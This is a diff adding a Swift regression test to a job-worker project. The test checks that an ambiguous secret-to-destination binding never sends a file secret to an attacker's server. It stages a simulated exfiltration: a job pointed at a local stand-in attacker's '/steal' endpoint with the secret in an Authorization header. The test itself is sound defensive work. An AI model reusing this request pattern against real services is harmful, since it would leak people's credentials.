@@ -119,4 +119,39 @@ import Testing
         #expect(try h.db.query("select count(*)::bigint from courier.breakers where state <> 'closed'").rows[0].decode(0, as: Int.self) == 0)
         await h.close()
     }
+
+    /// A fresh secrets directory holding `files` (name to text), removed after `body`.
+    static func withSecretsDirectory<T>(_ files: [String: String], _ body: (String) async throws -> T) async throws -> T {
+        let path = FileManager.default.temporaryDirectory.appendingPathComponent("courier-attack-secrets-\(UUID().uuidString)").path
+        try FileManager.default.createDirectory(atPath: path, withIntermediateDirectories: false)
+        defer { try? FileManager.default.removeItem(atPath: path) }
+        for (name, text) in files { try text.write(toFile: path + "/" + name, atomically: true, encoding: .utf8) }
+        return try await body(path)
+    }
+
+    /// Issue 43 item 6: the file secret `api.token` is bound by its own file to the partner
+    /// (the harness's server); `COURIER_SECRET_API_TOKEN_DESTINATIONS`, set for the
+    /// environment secret `api-token`, lists the attacker's server, and the environment
+    /// spells both names alike. An enqueuer points a job naming `api.token` at that server.
+    /// It used to be sent there; now nothing is, and the job is handed back with an error
+    /// naming both places.
+    @Test func anotherNamesEnvironmentBindingNeverSendsAFileSecretElsewhere() async throws {
+        let attacker = try FaultServer()
+        defer { attacker.stop() }
+        try await WorkerHarness.with { h in
+            try await Self.withSecretsDirectory(["api.token": "file-secret-0123456789\n", "api.token.destinations": h.server.baseURL]) { directory in
+                h.secretsDirectory = directory
+                h.secretEnvironment["COURIER_SECRET_API_TOKEN_DESTINATIONS"] = attacker.baseURL
+                try h.start()
+                let stolen = try TestRows(h.db).job(url: attacker.baseURL + "/steal") {
+                    $0.headers = [("Authorization", .secret(name: "api.token"))]
+                }
+                #expect(try await h.eventually { try h.isHandedBack(stolen) }, "\(String(describing: try? h.job(stolen)))")
+                #expect(attacker.requestCount() == 0 && attacker.connectionCount == 0, "nothing was sent to the attacker")
+                let logs = h.logLines.all.joined(separator: "\n")
+                #expect(logs.contains("ambiguous") && logs.contains("COURIER_SECRET_API_TOKEN_DESTINATIONS"), "\(logs)")
+                #expect(!logs.contains("file-secret-0123456789"))
+            }
+        }
+    }
 }
